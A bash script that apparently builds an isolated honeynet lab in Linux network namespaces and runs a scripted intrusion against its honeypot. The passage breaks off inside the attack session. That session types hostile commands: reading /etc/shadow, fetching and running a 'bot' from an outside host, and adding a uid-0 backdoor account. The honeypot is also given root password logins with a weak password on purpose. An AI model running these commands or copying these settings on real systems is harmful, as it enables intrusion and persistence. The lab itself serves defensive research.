#!/usr/bin/env bash
# summary: `apiary lab`: the seed's honeynet (figure 6) in network namespaces: up, attack, report, down.
#
# Design.  The lab is the Honeynet Project's GenII honeynet on one machine:
#
#      inet (the internet)             gw (honeywall)             hp1 (honeypot A)
#   203.0.113.66  intruder    wan0 ─── up0 [apiary-gw] hn0 ─── eth0 203.0.113.10
#   203.0.113.1   router           (no IP on the ports)         own mount, PID,
#   198.51.100.200 outside host (lo)                            UTS and net ns;
#   192.0.2.1 logn0 ─── eth0 192.0.2.2  log (log server B)      overlay root
#                       apiary-logd
#
# Log server B sits on the uplink side, behind the `inet` router: apiary-gw
# has no routed management port (its management interface is never
# bridged), so the honeypot reaches B only *through* the gateway, on the one
# port its allow list opens (tcp 6514); the fence list closes B's other
# ports.  That is the Honeywall's remote-logging setup with the log host
# outside the bridge.
#
# Every name carries a prefix derived from the lab directory ("apl-" and six
# hex digits of its path's hash), so two labs (a user's and a test's) never
# collide; interfaces are created inside their namespaces, so their short
# names (≤ 15 characters) need not be unique on the host.  All the lab's
# processes run inside one of its network namespaces; `down` therefore finds
# everything by asking each namespace for its pids, also after a half-done
# `up` whose state file is incomplete.  No mount is made in the host's mount
# namespace: the honeypot's overlay, /proc, /dev and devpts live in its own
# mount namespace and vanish with its last process.
#
# The honeypot's root is an overlay: the host's / is the read-only lower
# layer, the upper layer is DIR/hp1/state/upper, the honeypot's "disk" (what
# `save`/`restore` copy, as the seed copies a VM guest's file).  Host secrets
# are masked by opaque directories in the upper layer (/root, /home, /etc/ssh,
# /var/log, /var/backups, the lab and source trees, ...), the shadow file is
# generated (only root has a password, the weak one), and the honeypot gets
# fresh ssh host keys.  The honeypot's init drops the capabilities that
# would let root reach the host (module loading, raw I/O, mknod, mount,
# BPF, reboot, clock, and DAC_READ_SEARCH: open_by_handle_at would open
# the host's files behind the overlay) from its bounding set before sshd
# starts.
#
# apiary-agent runs in the honeypot's network namespace only (its TLS
# traffic crosses the gateway like a real honeypot's) and records with
# `scope netns`; it is invisible in the honeypot's PID and mount namespaces.
# Snapshots run inside the honeypot's namespaces (live collectors: its
# processes and sockets) with the apiary binary, the config and the output
# directory passed as open file descriptors, so none of them is visible in
# the honeypot's file tree.
set -uo pipefail

LAB_LIB=${APIARY_LAB_LIB:-$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)}
TOP=$(cd "$LAB_LIB/../.." && pwd)
BIN=${APIARY_BIN_DIR:-$TOP/bin}

# ---- addresses (documentation ranges only) ----------------------------------
HP_IP=203.0.113.10
INTRUDER_IP=203.0.113.66
ROUTER_IP=203.0.113.1
OUTSIDE_IP=198.51.100.200
LOG_IP=192.0.2.2
LOGGW_IP=192.0.2.1
ROOT_PASSWORD=${APIARY_LAB_PASSWORD:-123456}	# the weak one the intruder guesses
WRONG_PASSWORDS=(admin password)

die() { echo "apiary lab: $*" >&2; exit 1; }
say() { echo "lab: $*" >&2; }
step() { printf '\n== %s\n' "$*" >&2; }

usage() {
	cat <<'EOF'
usage: apiary lab [--dir DIR] COMMAND [ARGS]

Commands:
  up [--fresh]      build the honeynet (inet, gw, hp1, log) and start it
  attack            a scripted intrusion from the internet side
  report [-o FILE]  after-snapshot, diff, and the HTML report
  status            what is up
  save NAME         copy the honeypot's state directory to DIR/saves/NAME
  restore NAME      put a saved state back (the lab must be down)
  down              remove every namespace, process and veth of the lab

DIR defaults to $APIARY_LAB_DIR, else /var/lib/apiary/lab.  Needs root.
See docs/apiary-lab.md.
EOF
}

# ---- arguments ------------------------------------------------------------------
DIR=${APIARY_LAB_DIR:-/var/lib/apiary/lab}
ARGS=()
while [ $# -gt 0 ]; do
	case $1 in
	--dir) [ $# -ge 2 ] || die "--dir needs a directory"; DIR=$2; shift 2 ;;
	--dir=*) DIR=${1#--dir=}; shift ;;
	-h|--help|help) usage; exit 0 ;;
	*) ARGS+=("$1"); shift ;;
	esac
done
set -- "${ARGS[@]+"${ARGS[@]}"}"
[ $# -ge 1 ] || { usage >&2; exit 2; }
CMD=$1; shift
case $CMD in
up|down|status|attack|report|save|restore|__hp_boot) ;;
*) echo "apiary lab: unknown command '$CMD'" >&2; usage >&2; exit 2 ;;
esac

[ "$(id -u)" -eq 0 ] || die "needs root (network namespaces, mounts)"
mkdir -p "$DIR" || die "cannot create $DIR"
DIR=$(cd "$DIR" && pwd -P)
ID=$(printf '%s' "$DIR" | sha256sum | cut -c1-6)
PFX="apl-$ID-"
NS_INET=${PFX}inet; NS_GW=${PFX}gw; NS_HP=${PFX}hp1; NS_LOG=${PFX}log
ALL_NS=("$NS_INET" "$NS_GW" "$NS_HP" "$NS_LOG")
RUN=$DIR/run
# The honeypot's read-only lower layer: the host's / by default, or a
# Debian 12 tree (debootstrap) of the same release as the host.
LOWER=${APIARY_LAB_LOWER:-/}
STATE=$DIR/hp1/state

lab_namespaces() { ip netns list 2>/dev/null | awk '{print $1}' | grep "^$PFX" || true; }
in_ns() { local n=$1; shift; ip netns exec "$n" "$@"; }

# Runs "$@" detached (own session, no terminal) inside namespace $1;
# stdout and stderr to $2; records the pid in $RUN/$3.pid.
start_bg() {
	local n=$1 log=$2 name=$3; shift 3
	setsid ip netns exec "$n" "$@" </dev/null >>"$log" 2>&1 &
	echo $! >"$RUN/$name.pid"
}

pid_of() { cat "$RUN/$1.pid" 2>/dev/null; }

# wait_for SECONDS DESCRIPTION COMMAND...: polls every 0.1 s.
wait_for() {
	local secs=$1 what=$2 i; shift 2
	for ((i = 0; i < secs * 10; i++)); do
		"$@" >/dev/null 2>&1 && return 0
		sleep 0.1
	done
	say "timed out after ${secs}s waiting for $what"
	return 1
}
tcp_listening() { [ -n "$(in_ns "$1" ss -Hltn "sport = :$2")" ]; }

find_bin() {	# a program of this build, else of the release build
	local p
	for p in "$BIN/$1" "${APIARY_RELEASE_BIN:-$TOP/bin}/$1" "$TOP/bin/$1"; do
		[ -x "$p" ] && { echo "$p"; return 0; }
	done
	return 1
}

# ---- down -----------------------------------------------------------------------
# Stops the lab's processes: first the agent and the gateway (so that the
# agent's spool is sent and the gateway writes its last flows), then
# everything left in the lab's namespaces.  Bounded: TERM, 5 s, KILL.
stop_pidfile() {
	local name=$1 secs=${2:-5} p i
	p=$(pid_of "$name") || return 0
	[ -n "$p" ] || return 0
	kill -TERM "$p" 2>/dev/null
	# `ip netns exec` execs, so the pid is the program's own
	for ((i = 0; i < secs * 10; i++)); do
		kill -0 "$p" 2>/dev/null || break
		sleep 0.1
	done
	kill -KILL "$p" 2>/dev/null
	rm -f "$RUN/$name.pid"
}

# gone: no such process, or a zombie (its parent, often the host's init
# once `up` has exited, reaps it; it holds no namespace any more)
gone() {
	local st
	st=$(cat "/proc/$1/stat" 2>/dev/null) || return 0
	st=${st##*) }	# the state follows the command name, which may hold spaces
	[ "${st%% *}" = Z ]
}

kill_ns_procs() {
	local n=$1 pids all p i
	all=$(ip netns pids "$n" 2>/dev/null)
	[ -n "$all" ] || return 0
	kill -TERM $all 2>/dev/null
	for ((i = 0; i < 30; i++)); do
		pids=$(ip netns pids "$n" 2>/dev/null)
		[ -n "$pids" ] || break
		sleep 0.1
	done
	pids=$(ip netns pids "$n" 2>/dev/null)
	[ -n "$pids" ] && kill -KILL $pids 2>/dev/null
	for ((i = 0; i < 50; i++)); do
		pids=$(ip netns pids "$n" 2>/dev/null)
		for p in $all; do gone "$p" || pids="$pids $p"; done
		[ -z "${pids// /}" ] && return 0
		sleep 0.1
	done
	say "processes still in $n: $pids"
	return 1
}

lab_down() {
	local n rc=0
	if [ -d "$RUN" ]; then
		stop_pidfile agent 10
		stop_pidfile gw 10
		stop_pidfile logd 5
	fi
	for n in $(lab_namespaces); do
		kill_ns_procs "$n" || rc=1
	done
	# the honeypot's init (pid 1 of its PID namespace) takes the rest with it
	for n in $(lab_namespaces); do
		ip netns del "$n" 2>/dev/null || { say "cannot delete namespace $n"; rc=1; }
	done
	rm -f "$RUN"/*.pid "$RUN/up"
	return $rc
}

cmd_down() {
	if [ -z "$(lab_namespaces)" ] && [ ! -e "$RUN/up" ]; then
		say "nothing is up in $DIR"
		rm -f "$RUN"/*.pid 2>/dev/null
		return 0
	fi
	lab_down || die "down: something was left behind (see above)"
	say "down: namespaces, processes and veths of $DIR removed"
}

# ---- status ---------------------------------------------------------------------
cmd_status() {
	local n p name any=0
	echo "lab directory: $DIR"
	echo "name prefix:   $PFX"
	if [ -e "$RUN/up" ]; then echo "state:         up since $(cat "$RUN/up")"
	elif [ -n "$(lab_namespaces)" ]; then echo "state:         half up (run: apiary lab down)"
	else echo "state:         down"; fi
	for n in $(lab_namespaces); do
		any=1
		printf '  namespace %-18s %s process(es)\n' "$n" "$(ip netns pids "$n" | wc -l)"
	done
	for name in gw logd agent hp1 httpd; do
		p=$(pid_of $name) || continue
		[ -n "$p" ] || continue
		if ! gone "$p"; then
			printf '  %-6s pid %-8s running\n' "$name" "$p"
		else
			printf '  %-6s pid %-8s not running\n' "$name" "$p"
		fi
	done
	if [ $any -eq 1 ]; then
		echo "  honeypot A $HP_IP (ssh, http) | intruder $INTRUDER_IP | outside $OUTSIDE_IP | log server $LOG_IP:6514"
	fi
	[ -f "$DIR/www/bot" ] && echo "bot:           $DIR/www/bot sha256 $(sha256sum "$DIR/www/bot" | cut -d' ' -f1)"
	[ -f "$DIR/snap/baseline.db" ] && echo "baseline:      $DIR/snap/baseline.db"
	[ -d "$STATE/upper" ] && echo "honeypot disk: $STATE/upper ($(du -sh "$STATE/upper" 2>/dev/null | cut -f1))"
	if [ -d "$DIR/saves" ] && [ -n "$(ls -A "$DIR/saves" 2>/dev/null)" ]; then
		echo "saves:         $(ls "$DIR/saves" | tr '\n' ' ')"
	fi
	return 0
}

# ---- up: the pieces ---------------------------------------------------------------
set_opaque() {	# an empty-looking directory in the upper layer, hiding the host's
	mkdir -p "$1" && /usr/bin/python3 -c 'import os, sys; os.setxattr(sys.argv[1], "trusted.overlay.opaque", b"y")' "$1"
}

# The honeypot's disk, created once (kept across down/up until --fresh).
make_state() {
	local u=$STATE/upper p hash
	rm -rf "$STATE"
	mkdir -p "$u" "$STATE/work" || return 1
	# hide what the intruder must not read: the host's homes, keys, logs, and
	# apiary's own trees (binaries, the lab directory with its PKI)
	local masked=() m
	mask() {	# skips a path under one already masked: its name stays hidden
		for m in "${masked[@]+"${masked[@]}"}"; do
			case $1/ in "$m"/*) return 0 ;; esac
		done
		set_opaque "$u$1" && masked+=("$1")
	}
	# every top-level directory that is not part of a Debian system
	# (a build machine's /work, /data, ...)
	for p in "${LOWER%/}"/*/; do
		p=/${p#"${LOWER%/}"/}
		p=${p%/}
		case $p in
		/bin|/boot|/dev|/etc|/home|/lib|/lib32|/lib64|/libx32|/media|/mnt|/opt|\
		/proc|/root|/run|/sbin|/srv|/sys|/tmp|/usr|/var) ;;
		*) [ -L "${LOWER%/}$p" ] || mask "$p" || return 1 ;;
		esac
	done
	# and what the host keeps secret or apiary brings
	for p in /root /home /etc/ssh /etc/ssl/private /var/log /var/backups /var/mail /var/spool \
	    /var/lib/apiary /tmp /var/tmp /srv /mnt /media "$TOP" "$DIR"; do
		mask "$p" || return 1
	done
	chmod 1777 "$u/tmp" "$u/var/tmp"
	chmod 700 "$u/root"
	cp -a "${LOWER%/}/etc/skel/." "$u/root/" 2>/dev/null
	mkdir -p "$u/var/log" "$u/var/spool/cron/crontabs" "$u/var/www/html" "$u/var/mail"
	: >"$u/var/log/wtmp"; : >"$u/var/log/btmp"; : >"$u/var/log/lastlog"
	: >"$u/var/log/auth.log"
	chmod 600 "$u/var/log/btmp"
	# identity
	echo hp1 >"$u/etc/hostname"
	printf '127.0.0.1\tlocalhost\n%s\thp1.honeynet.example hp1\n' "$HP_IP" >"$u/etc/hosts"
	# accounts: the host's user list, no host password; root's is weak
	hash=$(openssl passwd -6 "$ROOT_PASSWORD") || return 1
	awk -F: -v h="$hash" 'BEGIN{OFS=":"} { print $1, ($1=="root" ? h : "*"), 19000, 0, 99999, 7, "", "", "" }' \
	    "${LOWER%/}/etc/passwd" >"$u/etc/shadow" || return 1
	awk -F: 'BEGIN{OFS=":"} { print $1, "*", "", $4 }' "${LOWER%/}/etc/group" >"$u/etc/gshadow"
	chmod 640 "$u/etc/shadow" "$u/etc/gshadow"
	chgrp shadow "$u/etc/shadow" "$u/etc/gshadow" 2>/dev/null
	# sshd: fresh host keys, password logins for root, its log in the honeypot
	cp -a "${LOWER%/}/etc/ssh/moduli" "${LOWER%/}/etc/ssh/ssh_config" "$u/etc/ssh/" 2>/dev/null
	ssh-keygen -q -t ed25519 -N '' -C hp1 -f "$u/etc/ssh/ssh_host_ed25519_key" || return 1
	ssh-keygen -q -t ecdsa -N '' -C hp1 -f "$u/etc/ssh/ssh_host_ecdsa_key" || return 1
	cat >"$u/etc/ssh/sshd_config" <<EOF
# honeypot A (apiary lab): password logins for root, on purpose
ListenAddress 0.0.0.0
HostKey /etc/ssh/ssh_host_ed25519_key
HostKey /etc/ssh/ssh_host_ecdsa_key
PermitRootLogin yes
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
UseDNS no
PrintMotd no
MaxAuthTries 6
LogLevel INFO
Subsystem sftp /usr/lib/openssh/sftp-server
EOF
	cat >"$u/var/www/html/index.html" <<'EOF'
<html><head><title>hp1</title></head><body><h1>It works!</h1>
<p>hp1.honeynet.example intranet server.</p></body></html>
EOF
}

# The honeypot's PID 1, after pivot_root and the capability drop: starts
# sshd and the web server, then reaps children until TERM.
HP_INIT_SCRIPT='
trap "kill -TERM -1 2>/dev/null; exit 0" TERM INT
mkdir -p /run/sshd /run/lock; chmod 755 /run/sshd; : >/run/utmp
/usr/sbin/sshd -E /var/log/auth.log
busybox httpd -p 80 -h /var/www/html
while :; do sleep 5 & wait $!; done
'
CAP_DROP=cap_dac_read_search,cap_checkpoint_restore,cap_sys_module,cap_sys_rawio,cap_sys_boot,cap_mknod,cap_sys_time,cap_sys_admin,cap_bpf,cap_perfmon,cap_syslog,cap_mac_admin,cap_mac_override,cap_audit_control,cap_linux_immutable,cap_sys_pacct,cap_wake_alarm,cap_block_suspend

# Runs as PID 1 of the honeypot's new PID namespace, in its new mount and
# UTS namespaces (and its network namespace): builds the root and execs
# the init above.
hp_boot() {
	local m=$DIR/hp1/mnt d
	read -r d _ </proc/self/stat && echo "$d" >"$RUN/hp1.pid"
	hostname hp1
	mount --make-rprivate / || return 1
	mkdir -p "$m"
	mount -t overlay apiary-hp1 -o "lowerdir=$LOWER,upperdir=$STATE/upper,workdir=$STATE/work" "$m" || return 1
	mount -t proc -o nosuid,nodev,noexec proc "$m/proc" || return 1
	for d in sys sysrq-trigger irq bus fs; do	# read-only, as container runtimes do
		[ -e "$m/proc/$d" ] || continue
		mount --bind "$m/proc/$d" "$m/proc/$d" && mount -o remount,bind,ro "$m/proc/$d"
	done
	mount -t tmpfs -o nosuid,noexec,mode=755,size=1m apiary-dev "$m/dev" || return 1
	mknod -m 666 "$m/dev/null" c 1 3; mknod -m 666 "$m/dev/zero" c 1 5
	mknod -m 666 "$m/dev/random" c 1 8; mknod -m 666 "$m/dev/urandom" c 1 9
	mknod -m 666 "$m/dev/tty" c 5 0; mknod -m 666 "$m/dev/full" c 1 7
	mkdir -p "$m/dev/pts" "$m/dev/shm"
	mount -t devpts -o newinstance,nosuid,noexec,ptmxmode=0666,mode=620,gid=5 devpts "$m/dev/pts" || return 1
	ln -s pts/ptmx "$m/dev/ptmx"; ln -s /proc/self/fd "$m/dev/fd"
	ln -s /proc/self/fd/0 "$m/dev/stdin"; ln -s /proc/self/fd/1 "$m/dev/stdout"
	ln -s /proc/self/fd/2 "$m/dev/stderr"
	mount -t tmpfs -o nosuid,nodev,mode=1777,size=16m shm "$m/dev/shm"
	mount -t tmpfs -o nosuid,nodev,mode=755,size=8m run "$m/run" || return 1
	cd "$m" && pivot_root . mnt && cd / && umount -l /mnt || return 1
	exec /usr/sbin/capsh --drop="$CAP_DROP" --shell=/bin/bash -- -c "$HP_INIT_SCRIPT"
}

write_gw_conf() {
	local f=$DIR/gw/apiary-gw.conf
	cat >"$f" <<EOF
# apiary-gw.conf of the lab (written by apiary lab up; see docs/apiary-lab.md)
honeynet-interface hn0
uplink-interface   up0
user nobody
# the Honeywall's defaults, per minute instead of per hour: a short demo
honeypot $HP_IP { limit tcp 20/minute; limit udp 20/minute; limit icmp 50/minute; limit other 10/minute }
# log server B: only tcp 6514, through the allow list (not counted)
allow out tcp to $LOG_IP port 6514
fence out tcp to $LOG_IP port 1-6513
fence out tcp to $LOG_IP port 6515-65535
fence out udp to $LOG_IP
fence out icmp to $LOG_IP
fence out to $LOGGW_IP
mode normal
capture $DIR/gw/pcap rotate 20M keep 50
eve-log $DIR/gw/eve.json
conn-log $DIR/gw/conn.log
stats interval 10s
drop-log 10/second
EOF
	# The shared pipeline (`inspect on`) with the IDS stage and the lab's
	# rules: the bot's exploit is dropped inline (sid 9000001), scans and
	# the flow records (one per connection, with direction) come from the
	# pipeline too (docs/apiary-gw.md "INSPECTION").
	GW_ARGS=()
	cp "$LAB_LIB/lab.rules" "$DIR/gw/lab.rules"
	printf 'inspect on\nids-rules %s\n' "$DIR/gw/lab.rules" >>"$f"
	IDS="inline (inspect on, ids-rules $DIR/gw/lab.rules)"
	# Every TCP session through the gateway as tcpflow files (the bot's
	# download, its exploit as the honeypot sent it, the HTTP requests).
	printf 'sessions %s\n' "$DIR/gw/sessions" >>"$f"
	"$GW_BIN" "${GW_ARGS[@]+"${GW_ARGS[@]}"}" -n -c "$f" >"$DIR/logs/gw-check.log" 2>&1 ||
	    { cat "$DIR/logs/gw-check.log" >&2; return 1; }
	echo "${GW_ARGS[*]}" >"$RUN/gw.args"
}

gw_start() {
	[ -n "${GW_BIN:-}" ] || GW_BIN=$(find_bin apiary-gw) || { say "apiary-gw is not built"; return 1; }
	local n0
	n0=$(grep -c bridging "$DIR/logs/gw.log" 2>/dev/null)
	read -r -a GW_ARGS <"$RUN/gw.args" 2>/dev/null || GW_ARGS=()
	start_bg "$NS_GW" "$DIR/logs/gw.log" gw "$GW_BIN" "${GW_ARGS[@]+"${GW_ARGS[@]}"}" -c "$DIR/gw/apiary-gw.conf"
	gw_bridging() { [ "$(grep -c bridging "$DIR/logs/gw.log" 2>/dev/null)" -gt "${n0:-0}" ]; }
	wait_for 15 "apiary-gw to bridge" gw_bridging || { tail -5 "$DIR/logs/gw.log" >&2; return 1; }
}

make_topology() {
	local n
	for n in "${ALL_NS[@]}"; do
		ip netns add "$n" || return 1
		ip -n "$n" link set lo up
		in_ns "$n" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1 >/dev/null
	done
	ip link add up0 netns "$NS_GW" type veth peer name wan0 netns "$NS_INET" || return 1
	ip link add hn0 netns "$NS_GW" type veth peer name eth0 netns "$NS_HP" || return 1
	ip link add logn0 netns "$NS_INET" type veth peer name eth0 netns "$NS_LOG" || return 1
	# offloads off: the userspace bridge wants wire-sized frames (docs/apiary-gw.md)
	in_ns "$NS_GW" ethtool -K up0 tso off gso off gro off tx off rx off >/dev/null 2>&1
	in_ns "$NS_GW" ethtool -K hn0 tso off gso off gro off tx off rx off >/dev/null 2>&1
	in_ns "$NS_INET" ethtool -K wan0 tso off gso off gro off tx off rx off >/dev/null 2>&1
	in_ns "$NS_HP" ethtool -K eth0 tso off gso off gro off tx off rx off >/dev/null 2>&1
	# inet: the intruder (primary address), the honeynet's router, the outside host
	ip -n "$NS_INET" addr add "$INTRUDER_IP/24" dev wan0 &&
	ip -n "$NS_INET" addr add "$ROUTER_IP/24" dev wan0 &&
	ip -n "$NS_INET" addr add "$OUTSIDE_IP/32" dev lo &&
	ip -n "$NS_INET" addr add "$LOGGW_IP/24" dev logn0 &&
	ip -n "$NS_INET" link set wan0 up && ip -n "$NS_INET" link set logn0 up || return 1
	in_ns "$NS_INET" sysctl -qw net.ipv4.ip_forward=1 >/dev/null || return 1
	# gw: two ports, no address
	ip -n "$NS_GW" link set up0 up && ip -n "$NS_GW" link set hn0 up || return 1
	# hp1: honeypot A; routes to the lab's networks only (no default route)
	ip -n "$NS_HP" addr add "$HP_IP/24" dev eth0 && ip -n "$NS_HP" link set eth0 up &&
	ip -n "$NS_HP" route add 198.51.100.0/24 via "$ROUTER_IP" &&
	ip -n "$NS_HP" route add 192.0.2.0/24 via "$ROUTER_IP" || return 1
	# log: log server B
	ip -n "$NS_LOG" addr add "$LOG_IP/24" dev eth0 && ip -n "$NS_LOG" link set eth0 up &&
	ip -n "$NS_LOG" route add 203.0.113.0/24 via "$LOGGW_IP" || return 1
}

start_logd() {
	local logd
	logd=$(find_bin apiary-logd) || { say "apiary-logd is not built"; return 1; }
	mkdir -p "$DIR/store"
	cat >"$DIR/logd/apiary-logd.conf" <<EOF
# log server B of the lab (written by apiary lab up)
listen $LOG_IP:6514
ca    $DIR/pki/ca.crt
cert  $DIR/pki/$LOG_IP.crt
key   $DIR/pki/$LOG_IP.key
store $DIR/store
chroot no
EOF
	start_bg "$NS_LOG" "$DIR/logs/logd.log" logd "$logd" -d -c "$DIR/logd/apiary-logd.conf"
	wait_for 10 "apiary-logd to listen" tcp_listening "$NS_LOG" 6514 || { tail -5 "$DIR/logs/logd.log" >&2; return 1; }
}

start_agent() {
	local agent
	agent=$(find_bin apiary-agent) || { say "apiary-agent is not built"; return 1; }
	cat >"$DIR/agent/apiary-agent.conf" <<EOF
# the agent of honeypot A (written by apiary lab up): runs in hp1's network
# namespace only, records the processes of that namespace
server $LOG_IP:6514
ca    $DIR/pki/ca.crt
cert  $DIR/pki/hp1.crt
key   $DIR/pki/hp1.key
spool $DIR/agent/spool
scope netns /run/netns/$NS_HP
hostname hp1
EOF
	start_bg "$NS_HP" "$DIR/logs/agent.log" agent "$agent" -c "$DIR/agent/apiary-agent.conf"
	agent_connected() { grep -q 'connected to' "$DIR/logs/agent.log"; }
	wait_for 20 "apiary-agent to connect to the log server" agent_connected || { tail -5 "$DIR/logs/agent.log" >&2; return 1; }
}

start_inet() {
	local bot
	mkdir -p "$DIR/www"
	if bot=$(find_bin apiary-lab-bot); then
		cp "$bot" "$DIR/www/bot"
	else
		say "building the bot from $LAB_LIB/bot.c"
		${CC:-cc} -std=gnu17 -O2 -o "$DIR/www/bot" "$LAB_LIB/bot.c" || return 1
	fi
	chmod 644 "$DIR/www/bot"
	printf '<html><body><h1>files</h1><a href="bot">bot</a></body></html>\n' >"$DIR/www/index.html"
	if command -v busybox >/dev/null; then
		start_bg "$NS_INET" "$DIR/logs/httpd-outside.log" httpd busybox httpd -f -vv -p "$OUTSIDE_IP:80" -h "$DIR/www"
	else
		start_bg "$NS_INET" "$DIR/logs/httpd-outside.log" httpd /usr/bin/python3 -m http.server 80 --bind "$OUTSIDE_IP" --directory "$DIR/www"
	fi
	wait_for 10 "the outside web server" tcp_listening "$NS_INET" 80
}

start_hp() {
	mkdir -p "$DIR/hp1/mnt"
	# own mount, PID and UTS namespaces, inside the honeypot's network namespace
	setsid ip netns exec "$NS_HP" unshare --mount --pid --uts --ipc --fork --propagation private \
	    bash "$LAB_LIB/lab.sh" --dir "$DIR" __hp_boot </dev/null >>"$DIR/logs/hp1.log" 2>&1 &
	echo $! >"$RUN/hp1-unshare.pid"
	wait_for 15 "sshd on the honeypot" tcp_listening "$NS_HP" 22 || { tail -5 "$DIR/logs/hp1.log" >&2; return 1; }
	wait_for 5 "the honeypot's web server" tcp_listening "$NS_HP" 80
}

SNAP_CONF='# what the lab snapshots on honeypot A (apiary snapshot -c)
no-roots
root /etc
root /root
root /home
root /tmp
root /var/tmp
root /var/spool
root /var/www
root /dev/shm
root /usr/local/bin
root /usr/local/sbin
collect processes sockets users authorized-keys cron startup mounts files
threads 1
hidden-ports no
'

# snapshot NAME: a live snapshot inside the honeypot's mount, PID, network
# and UTS namespaces, to DIR/snap/NAME.db.  The program (fd 4), its config
# (fd 5) and the output file (fd 6) are passed as descriptors, and the
# database is built on a tmpfs mounted in a private child of the honeypot's
# mount namespace: the honeypot's file tree shows none of them.  (SQLite
# resolves symbolic links in its path, so it cannot write through
# /proc/self/fd/N to a directory of the host's mount namespace.)
hp_snapshot() {
	local name=$1 hp apiary
	hp=$(pid_of hp1) && kill -0 "$hp" 2>/dev/null || { say "the honeypot is not running"; return 1; }
	apiary=$(find_bin apiary) || return 1
	mkdir -p "$DIR/snap"
	printf '%s' "$SNAP_CONF" >"$DIR/snap/snapshot.conf"
	rm -f "$DIR/snap/$name.db"
	nsenter -t "$hp" -m -p -n -u -- /usr/bin/unshare -m --propagation private /bin/sh -c \
	    'mount -t tmpfs -o mode=700,size=512m apiary-snap /mnt &&
	     /proc/self/fd/4 snapshot -q -c /proc/self/fd/5 -o /mnt/snapshot.db &&
	     cat /mnt/snapshot.db >&6' \
	    4<"$apiary" 5<"$DIR/snap/snapshot.conf" 6>"$DIR/snap/$name.db" \
	    >>"$DIR/logs/snapshot.log" 2>&1 || { tail -3 "$DIR/logs/snapshot.log" >&2; rm -f "$DIR/snap/$name.db"; return 1; }
	[ -s "$DIR/snap/$name.db" ]
}

cmd_up() {
	local fresh=0
	while [ $# -gt 0 ]; do
		case $1 in
		--fresh) fresh=1 ;;
		*) die "up: unknown option $1" ;;
		esac
		shift
	done
	[ -e "$RUN/up" ] && die "the lab in $DIR is already up (apiary lab down first)"
	if [ -n "$(lab_namespaces)" ]; then
		say "cleaning up what a failed run left behind"
		lab_down || die "could not clean up the previous run"
	fi
	GW_BIN=$(find_bin apiary-gw) || die "apiary-gw is not built (run make)"
	find_bin apiary >/dev/null || die "apiary is not built (run make)"
	for t in ip ethtool nsenter unshare capsh ssh-keygen openssl /usr/sbin/sshd; do
		command -v "$t" >/dev/null || die "$t is missing (scripts/install-deps.sh)"
	done
	# from here on a failure takes down what was built
	trap 'rc=$?; if [ $rc -ne 0 ]; then say "up failed; removing what was built"; lab_down; fi' EXIT
	chmod 755 "$DIR"
	mkdir -p "$RUN" "$DIR/logs" "$DIR/gw/pcap" "$DIR/logd" "$DIR/agent" "$DIR/snap" "$DIR/saves" || exit 1
	chmod 755 "$DIR/gw" "$DIR/gw/pcap"
	# apiary-gw becomes `nobody` and then opens new capture files
	if command -v runuser >/dev/null && ! runuser -u nobody -- test -x "$DIR/gw/pcap"; then
		die "user nobody cannot reach $DIR/gw/pcap (apiary-gw drops to it): choose a --dir whose parents are world-searchable"
	fi
	rm -f "$DIR/logs"/*.log "$RUN"/*.pid

	step "the honeypot's disk ($STATE)"
	if [ $fresh -eq 1 ] || [ ! -d "$STATE/upper" ]; then
		make_state || die "cannot create the honeypot's state"
		rm -rf "$DIR/saves/clean"
		mkdir -p "$DIR/saves/clean" && cp -a "$STATE/upper" "$DIR/saves/clean/upper" &&
		    say "a clean state, saved as 'clean'"
	else
		say "keeping the existing state (up --fresh starts from a clean one)"
		rm -rf "$STATE/work"; mkdir -p "$STATE/work"
	fi
	if [ $fresh -eq 1 ]; then
		rm -rf "$DIR/store" "$DIR/gw/pcap" "$DIR/gw/sessions" "$DIR/agent/spool" "$DIR/diff" "$DIR/attack"
		rm -f "$DIR/gw/eve.json" "$DIR/gw/conn.log" "$DIR/snap"/*.db
		mkdir -p "$DIR/gw/pcap"
	fi

	step "PKI: honeynet CA, log server and honeypot certificates"
	if [ ! -f "$DIR/pki/hp1.crt" ]; then
		"$(find_bin apiary)" pki init "$DIR/pki" >/dev/null &&
		"$(find_bin apiary)" pki issue "$DIR/pki" "$LOG_IP" --server >/dev/null &&
		"$(find_bin apiary)" pki issue "$DIR/pki" hp1 >/dev/null || die "apiary pki failed"
	fi

	step "namespaces ${PFX}{inet,gw,hp1,log} and their links"
	make_topology || die "cannot build the topology"
	step "gw: apiary-gw bridging up0 and hn0"
	write_gw_conf || die "the gateway's configuration is refused"
	say "IDS: $IDS"
	gw_start || die "apiary-gw did not start"
	step "log: apiary-logd on $LOG_IP:6514"
	start_logd || die "apiary-logd did not start"
	step "inet: outside web server on $OUTSIDE_IP:80 (serving the bot)"
	start_inet || die "the outside web server did not start"
	step "hp1: honeypot A on $HP_IP (overlay root, sshd, httpd)"
	start_hp || die "the honeypot did not start"
	in_ns "$NS_HP" ping -c1 -W2 "$LOG_IP" >/dev/null 2>&1 && say "warning: the honeypot can ping the log server"
	step "hp1: apiary-agent (honeypot's network namespace only)"
	if ! start_agent; then
		say "warning: apiary-agent did not start; sessions will be missing from the report"
	fi
	step "hp1: baseline snapshot"
	hp_snapshot baseline || die "the baseline snapshot failed"
	date -u +%FT%TZ >"$RUN/up"
	trap - EXIT
	step "the lab is up"
	cmd_status
}

# ---- attack ---------------------------------------------------------------------
SSH_OPTS=(-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null
	-o GlobalKnownHostsFile=/dev/null -o LogLevel=ERROR -o PubkeyAuthentication=no
	-o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 -o ConnectTimeout=10)

# Types a line as a person would: character by character, then Enter, then
# a pause to read the screen.
type_line() {
	local s=$1 pause=${2:-1} i
	for ((i = 0; i < ${#s}; i++)); do
		printf '%s' "${s:i:1}"
		sleep 0.0$((RANDOM % 6 + 3))
	done
	printf '\r'
	sleep "$pause"
}

intruder_session() {
	sleep 2	# the login and the prompt
	type_line 'uname -a' 1
	type_line 'id' 0.8
	type_line 'w' 1
	type_line 'cat /etc/shadow' 1.5
	type_line 'cd /tmp' 0.5
	type_line "wget -q http://$OUTSIDE_IP/bot" 1.5
	type_line 'chmod +x bot' 0.5
	type_line './bot' 12
	type_line 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm || echo "sysadm:x:0:0::/root:/bin/bash" >> /etc/passwd' 1
